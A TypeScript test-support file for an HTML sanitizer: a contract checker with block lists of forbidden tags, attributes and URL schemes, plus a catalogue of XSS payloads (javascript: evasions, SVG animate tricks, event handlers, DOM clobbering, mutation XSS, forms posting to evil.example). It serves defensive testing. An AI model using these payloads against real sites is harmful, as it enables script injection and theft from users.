/**
 * The contract's rules for ajax content (§3, Lightbox), written independently of the
 * sanitizer so a test never checks the implementation against itself, and the payloads
 * that probe them. Shared by the DOMPurify-path and platform-path unit tests.
 */

/**
 * Everything in `root` that breaks the contract, as readable lines (empty: it complies).
 * Self-contained (no outer names), so the browser tests can run it in the page as it is.
 */
export function violations(root: ParentNode): string[] {
  const forbiddenElements = new Set([
    'script',
    'style',
    'base',
    'meta',
    'link',
    'iframe',
    'frame',
    'frameset',
    'object',
    'embed',
    'form',
    'template',
    'noscript',
    'animate',
    'set',
    'animatemotion',
    'animatetransform',
    'discard',
    'use',
  ]);
  const forbiddenAttributes = new Set([
    'style',
    'action',
    'formaction',
    'form',
    'srcdoc',
    'is',
    'popovertarget',
    'commandfor',
  ]);
  const urlAttributes = new Set([
    'href',
    'xlink:href',
    'src',
    'srcset',
    'poster',
    'data',
    'background',
    'cite',
  ]);
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.localName.toLowerCase();
    if (forbiddenElements.has(tag)) found.push(`<${tag}>`);
    if (el.namespaceURI === 'http://www.w3.org/1999/xhtml' && tag.includes('-'))
      found.push(`custom <${tag}>`);
    if (el.shadowRoot) found.push(`shadow root on <${tag}>`);
    for (const { name, value } of Array.from(el.attributes)) {
      const n = name.toLowerCase();
      const url = value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
      const dataImage = tag === 'img' && n === 'src' && url.startsWith('data:image/');
      if (n.startsWith('on')) found.push(`${tag}[${n}]`);
      else if (n.startsWith('data-')) found.push(`marker ${tag}[${n}]`);
      else if (forbiddenAttributes.has(n)) found.push(`${tag}[${n}]`);
      else if ((n === 'id' || n === 'name') && !value.startsWith('user-content-'))
        found.push(`${tag}[${n}=${value}]`);
      else if (n === 'rel' && /prettyphoto/i.test(value)) found.push(`marker ${tag}[rel=${value}]`);
      else if (urlAttributes.has(n) && /^(javascript|vbscript|data):/.test(url) && !dataImage)
        found.push(`${tag}[${n}=${value}]`);
    }
  }
  return found;
}

type Check = (root: HTMLElement) => void;

/** [what it tries, payload, what of the harmless part must survive]. Payloads call __xss. */
export const payloads: [string, string, Check?][] = [
  [
    'SVG <animate> sets a javascript: href on a link',
    '<svg><a><animate attributeName="href" values="javascript:__xss(1)"/><text>x</text></a></svg>',
    (r) => expectText(r, 'x'),
  ],
  [
    'SVG <set> and friends',
    '<svg><a><set attributeName="href" to="javascript:__xss(2)"/><animateMotion/><animateTransform/><discard/><text>y</text></a></svg>',
    (r) => expectText(r, 'y'),
  ],
  [
    'a form posting anywhere',
    '<form action="https://evil.example/collect" method="post"><input type="text" aria-label="q"><button>Send</button></form><p>after</p>',
    (r) => expectText(r, 'after'),
  ],
  [
    'formaction on a button and an input',
    '<button formaction="javascript:__xss(3)">b</button><input type="submit" formaction="https://evil.example/" form="site-search">',
  ],
  [
    'DOM clobbering: name and id',
    '<img name="SiteRuntime" src="a.png" alt=""><img name="getElementById" src="a.png" alt=""><a id="defaultView" href="/x">x</a><p id="dataLayer">d</p>',
    (r) => {
      if (!r.querySelector('a[href="/x"]')) throw new Error('the link itself should stay');
    },
  ],
  ['a form named after a global', '<form id="dataLayer" name="SiteRuntime"><input name="push"></form>'],
  [
    'event handlers, any case',
    '<img src="missing.png" alt="" onerror="__xss(4)"><details open ontoggle="__xss(5)"><summary>s</summary></details><p ONCLICK="__xss(6)">p</p><svg onload="__xss(7)"></svg>',
    (r) => expectText(r, 'p'),
  ],
  [
    'javascript: with case, whitespace, tabs and control characters',
    '<a href=" JaVaScRiPt:__xss(8)">a</a><a href="java&#x09;script:__xss(9)">b</a><a href="&#x01;javascript:__xss(10)">c</a><a href="javascript&colon;__xss(11)">d</a>',
    (r) => expectText(r, 'abcd'),
  ],
  [
    'vbscript: and data: links',
    '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>__xss(12)</script>">d</a><a href="data:image/svg+xml,<svg onload=__xss(13)>">i</a>',
  ],
  [
    'data:image on an img is an image',
    '<img alt="dot" src="data:image/png;base64,iVBORw0KGgo=">',
    (r) => {
      if (!r.querySelector('img[src^="data:image/png"]')) throw new Error('a data: image should stay');
    },
  ],
  [
    'data: on media other than img',
    '<video src="data:video/mp4;base64,AA" poster="javascript:__xss(14)"></video><img alt="" srcset="javascript:__xss(15) 1x">',
  ],
  [
    'base, meta refresh, link and style',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:__xss(16)"><link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style><p style="position:fixed;inset:0">s</p>',
    (r) => expectText(r, 's'),
  ],
  [
    'frames and plugins',
    '<iframe srcdoc="<script>parent.__xss(17)</script>"></iframe><frameset><frame src="javascript:__xss(18)"></frameset><object data="javascript:__xss(19)"></object><embed src="javascript:__xss(20)">',
  ],
  [
    'scripts, HTML, SVG and MathML',
    '<script>__xss(21)</script><svg><script>__xss(22)</script></svg><math><mi xlink:href="javascript:__xss(23)">m</mi></math><math href="javascript:__xss(24)"><mi>n</mi></math>',
  ],
  [
    'runtime markers would enhance the content',
    '<a data-sw-lightbox href="/x.png">l</a><button type="button" data-sw-consent-action="accept-all">Close</button><a rel="prettyPhoto" href="/y.png">p</a>',
    (r) => expectText(r, 'lClosep'),
  ],
  ["custom elements run the page's code", '<x-evil>e</x-evil><button is="x-evil">b</button>'],
  [
    'declarative shadow DOM and templates',
    '<div><template shadowrootmode="open"><img src="x" onerror="__xss(25)"></template>host</div><template><img src="x" onerror="__xss(26)"></template>',
  ],
  [
    'mutation XSS shapes',
    '<noscript><p title="</noscript><img src=x onerror=__xss(27)>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=__xss(28)>',
  ],
  [
    'label, popover and command reach page elements by id',
    '<label for="site-search-q">l</label><button popovertarget="cookie-preferences">p</button><button commandfor="cookie-preferences" command="show-modal">c</button>',
    (r) => {
      const label = r.querySelector('label');
      if (label && label.getAttribute('for') !== 'user-content-site-search-q')
        throw new Error(`label for=${label.getAttribute('for')}`);
    },
  ],
  [
    'ordinary content stays',
    '<h2>Opening hours</h2><p>Mon to <strong>Fri</strong></p><ul><li><a href="/clinic/en/contact/">Contact</a></li><li><a href="https://example.com/">Map</a></li><li><a href="mailto:desk@example.com">Mail</a></li></ul><img src="room.png" alt="Room">',
    (r) => {
      expectText(r, 'Opening hoursMon to FriContactMapMail');
      const hrefs = Array.from(r.querySelectorAll('a')).map((a) => a.getAttribute('href'));
      if (hrefs.join(' ') !== '/clinic/en/contact/ https://example.com/ mailto:desk@example.com')
        throw new Error(hrefs.join(' '));
      if (r.querySelector('img')?.getAttribute('src') !== 'room.png')
        throw new Error('the image should stay');
    },
  ],
];

function expectText(root: HTMLElement, text: string) {
  const got = (root.textContent ?? '').replace(/\s+/g, '');
  if (!got.includes(text.replace(/\s+/g, ''))) throw new Error(`text "${text}" lost: "${got}"`);
}
